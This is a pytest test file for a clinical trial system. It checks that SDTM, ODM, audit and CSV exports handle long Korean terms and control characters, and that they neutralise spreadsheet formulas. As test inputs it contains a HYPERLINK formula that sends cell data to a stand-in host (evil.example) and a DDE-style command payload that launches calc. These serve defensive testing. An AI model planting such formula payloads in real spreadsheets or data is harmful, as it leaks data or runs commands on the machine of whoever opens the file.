"""Hostile and unusual data in the exports, through the command line and the web downloads:

- an adverse event term of 90 Korean characters (270 UTF-8 bytes) exports (SUPPAE carries the
  rest) where it used to exit 1 with a traceback and leave files behind, or answer 500;
- data that cannot be exported exits 2 naming the dataset, variable and subject, answers 422 on
  the web, and leaves nothing;
- text that a spreadsheet would run as a formula is neutralised in every CSV (audit trail,
  SDTM ae.csv, the statisticians' zip, ``export csv``), kept as typed in XPT.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import pandas as pd
import pyreadstat
import pytest
from django.urls import reverse
from export_reports import ae_report
from typer.testing import CliRunner

from alstrial.cli import app

KOREAN = "".join(chr(0xAC00 + 7 * i) for i in range(90))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def subject(kim_trial, enrolled_subject):
    return enrolled_subject("seoul", days_ago=60)


def report(subject, users, term: str):
    from alstrial.web.safety.services import record_adverse_event

    return record_adverse_event(subject, ae_report(subject, term), users["coordinator.seoul"])


def harvest_at(subject, users, site: str):
    from alstrial.web.product.services import record_harvest

    return record_harvest(
        subject,
        users["investigator.seoul"],
        aspirated_at=datetime.now(UTC) - timedelta(days=1),
        volume_ml=30,
        anticoagulant="heparin",
        anatomical_site=site,
    )


def test_korean_term_exports_from_the_command_line(subject, users, tmp_path):
    ae = report(subject, users, KOREAN)
    assert ae.verbatim_term == KOREAN
    out = tmp_path / "sdtm"
    command = ["export", "sdtm", "--trial", "kim2009", "--out", str(out), "--xpt"]
    result = CliRunner().invoke(app, command)
    assert result.exit_code == 0, result.output
    ae_xpt, _ = pyreadstat.read_xport(out / "ae.xpt", encoding="utf-8")
    supp, _ = pyreadstat.read_xport(out / "suppae.xpt", encoding="utf-8")
    first = ae_xpt["AETERM"].iloc[0]
    assert len(first.encode("utf-8")) <= 200
    assert first + supp.loc[supp["QNAM"] == "AETERM1", "QVAL"].iloc[0] == KOREAN


def test_unexportable_data_exits_2_naming_dataset_variable_subject(subject, users, tmp_path):
    harvest_at(subject, users, KOREAN[:100] + "뼈" * 10)  # 110 characters, 330 bytes
    out = tmp_path / "exports" / "sdtm"
    command = ["export", "sdtm", "--trial", "kim2009", "--out", str(out), "--xpt"]
    result = CliRunner().invoke(app, command)
    assert result.exit_code == 2, result.output
    assert "PR.PRLOC" in result.output
    assert f"KIM2009-{subject.code}" in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "exports").exists()


def test_web_sdtm_download_succeeds_or_answers_422(client, subject, users):
    report(subject, users, KOREAN)
    client.force_login(users["investigator.seoul"])
    url = reverse("exchange:download", args=["kim2009", "sdtm"])
    response = client.get(url)
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert "suppae.xpt" in archive.namelist()
    assert KOREAN[-10:] in archive.read("suppae.csv").decode("utf-8")
    harvest_at(subject, users, KOREAN[:100])
    refused = client.get(url)
    assert refused.status_code == 422
    assert "PR.PRLOC" in refused.content.decode()
    assert f"KIM2009-{subject.code}" in refused.content.decode()


def test_formulas_are_neutralised_in_every_csv(client, subject, users, tmp_path):
    from alstrial.web.core.records import save_clinical

    ae = report(subject, users, FORMULA)
    ae.grade = 2
    save_clinical(ae, users["investigator.seoul"], "@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(users["investigator.seoul"])
    audit = client.get(reverse("audit:trial_csv", args=["kim2009"])).content.decode()
    rows = list(csv.DictReader(io.StringIO(audit)))
    assert {r["reason"] for r in rows} >= {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(not value.startswith(("=", "@", "+")) for r in rows for value in r.values())

    sdtm = tmp_path / "sdtm"
    command = ["export", "sdtm", "--trial", "kim2009", "--out", str(sdtm), "--xpt"]
    assert CliRunner().invoke(app, command).exit_code == 0
    ae_csv = pd.read_csv(sdtm / "ae.csv", dtype=str, keep_default_na=False)
    assert ae_csv["AETERM"].tolist() == ["'" + FORMULA]
    ae_xpt, _ = pyreadstat.read_xport(sdtm / "ae.xpt")
    assert ae_xpt["AETERM"].tolist() == [FORMULA]  # XPT keeps the true value

    tidy = tmp_path / "csv"
    command = ["export", "csv", "--trial", "kim2009", "--out", str(tidy)]
    assert CliRunner().invoke(app, command).exit_code == 0
    for path in tidy.iterdir():
        assert "HYPERLINK" not in path.read_text(), path.name  # uncoded: not even quoted


def test_safety_table_csv_is_neutralised_too(client, subject, users, tmp_path):
    report(subject, users, FORMULA)
    client.force_login(users["investigator.seoul"])
    url = reverse("safety:table_csv", args=["kim2009", "by_term"])
    text = client.get(url).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    # the term as the domain stored it (lower case), quoted: shown as text, never run
    assert [c for c in cells if "hyperlink" in c.lower()] == [
        '\'=hyperlink("http: evil.example ?"&a1,"click")'
    ]
    out = tmp_path / "tables"
    result = CliRunner().invoke(app, ["safety", "tables", "--trial", "kim2009", "--out", str(out)])
    assert result.exit_code == 0, result.output
    written = (out / "kim2009_by_term.csv").read_text()
    rows = list(csv.reader(io.StringIO(written)))
    assert next(c for row in rows for c in row if "hyperlink" in c.lower()).startswith("'=")


def test_a_control_character_refuses_the_odm_naming_subject_form_item(
    client, subject, users, tmp_path
):
    """XML 1.0 cannot carry U+0001: the export used to end in a traceback (command line) or an
    ill-formed file (web); now exit 2 / 422 naming where, and nothing is written."""
    report(subject, users, "head\x01ache")
    out = tmp_path / "odm" / "kim.xml"
    result = CliRunner().invoke(app, ["export", "odm", "--trial", "kim2009", "--out", str(out)])
    assert result.exit_code == 2, result.output
    assert f"adverse_events.verbatim_term: subject {subject.code}" in result.output
    assert "U+0001" in result.output
    assert not (tmp_path / "odm").exists()
    client.force_login(users["investigator.seoul"])
    response = client.get(reverse("exchange:download", args=["kim2009", "odm"]))
    assert response.status_code == 422
    assert f"adverse_events.verbatim_term: subject {subject.code}" in response.content.decode()
